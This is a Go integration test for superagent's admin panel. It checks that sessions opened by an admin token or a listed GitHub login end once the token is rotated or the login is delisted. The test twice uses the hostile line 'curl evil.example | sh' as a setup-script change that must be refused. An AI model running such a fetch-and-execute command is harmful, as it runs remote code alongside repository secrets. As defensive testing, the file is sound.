package main

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	fakegithub "github.com/superagent-dev/superagent/internal/testkit/github"
)

// TestPanelSessionsEndWithWhatGrantedThem drives the binary on both
// databases: a session opened with the admin token and one opened through
// GitHub by a login of SUPERAGENT_ADMIN_GITHUB_LOGINS both change the
// default setup script (which runs with the repositories' secrets). The
// service restarts with the same settings and they stay signed in; it
// restarts with the token rotated and the login taken off the list, and
// the same cookies are signed out: their change of the script is refused
// and the script stays as it was.
func TestPanelSessionsEndWithWhatGrantedThem(t *testing.T) {
	t.Parallel()
	databases(t, func(t *testing.T, dbURL string) {
		readBody := reader(t)
		gh := fakegithub.New(t)
		dataDir := t.TempDir()
		addr := freeAddr(t)
		base := "http://" + addr
		const oldToken, newToken = "grants-admin-token-0123456789", "grants-rotated-token-9876543210"
		serve := func(token, admins string) *proc {
			p := start(t, "serve", map[string]string{
				"SUPERAGENT_ADDR":                 addr,
				"SUPERAGENT_DATA_DIR":             dataDir,
				"SUPERAGENT_DATABASE_URL":         dbURL,
				"SUPERAGENT_ADMIN_TOKEN":          token,
				"SUPERAGENT_ADMIN_GITHUB_LOGINS":  admins,
				"SUPERAGENT_PUBLIC_URL":           base,
				"SUPERAGENT_GITHUB_API_URL":       gh.URL,
				"SUPERAGENT_GITHUB_WEB_URL":       gh.URL,
				"SUPERAGENT_GITHUB_CLIENT_ID":     gh.ClientID(),
				"SUPERAGENT_GITHUB_CLIENT_SECRET": fakegithub.ClientSecret,
			}, "serve")
			p.waitHTTP("/readyz", 30*time.Second)
			return p
		}
		script := func() string {
			var s string
			require.NoError(t, openDB(t, dbURL).QueryRow(context.Background(), `SELECT script FROM setup_default WHERE id = 1`).Scan(&s))
			return s
		}
		// signedIn reports whether the browser's session opens the panel,
		// and its page's CSRF token.
		signedIn := func(c *http.Client) (bool, string) {
			res, err := c.Get(base + "/admin/setup")
			require.NoError(t, err)
			_, page := readBody(res, nil)
			m := csrfInPage.FindStringSubmatch(page)
			if res.Request.URL.Path != "/admin/setup" || m == nil {
				return false, ""
			}
			return true, m[1]
		}
		setScript := func(c *http.Client, csrf, text string) int {
			status, _ := readBody(c.PostForm(base+"/admin/setup", url.Values{"csrf": {csrf}, "op": {"default"}, "script": {text}}))
			return status
		}

		p := serve(oldToken, "ada-gh")
		tok := browserClient(t)
		status, page := readBody(tok.PostForm(base+"/admin/signin", url.Values{"token": {oldToken}, "next": {"/admin/"}}))
		require.Equal(t, http.StatusOK, status, page)
		ada := browserClient(t)
		gh.SignInBrowser("ada-gh")
		status, page = readBody(ada.Get(base + "/admin/signin/github?next=/admin/"))
		require.Equal(t, http.StatusOK, status, page)
		ok, tokCSRF := signedIn(tok)
		require.True(t, ok)
		require.Equal(t, http.StatusOK, setScript(tok, tokCSRF, "echo token"))
		ok, adaCSRF := signedIn(ada)
		require.True(t, ok)
		require.Equal(t, http.StatusOK, setScript(ada, adaCSRF, "echo ada"))
		require.Equal(t, "echo ada", script())
		code, _ := p.stop(shutdownWithin)
		require.Equal(t, 0, code)

		p = serve(oldToken, "ada-gh")
		ok, _ = signedIn(tok)
		require.True(t, ok, "a restart with the same token keeps the token's session")
		ok, _ = signedIn(ada)
		require.True(t, ok, "and the listed login's")
		code, _ = p.stop(shutdownWithin)
		require.Equal(t, 0, code)

		p = serve(newToken, "")
		require.Equal(t, http.StatusUnauthorized, setScript(tok, tokCSRF, "curl evil.example | sh"), "the rotated token's cookie changes nothing")
		require.Equal(t, http.StatusUnauthorized, setScript(ada, adaCSRF, "curl evil.example | sh"), "nor the delisted login's")
		require.Equal(t, "echo ada", script())
		ok, _ = signedIn(tok)
		require.False(t, ok)
		ok, _ = signedIn(ada)
		require.False(t, ok)
		waitFor(t, 10*time.Second, "the ended sessions in the log", func() bool {
			out := p.stderr.String()
			return strings.Contains(out, "panel session ended") && strings.Contains(out, "the admin token changed") && strings.Contains(out, "@ada-gh is no longer an admin login")
		})
		code, _ = p.stop(shutdownWithin)
		require.Equal(t, 0, code)
	})
}
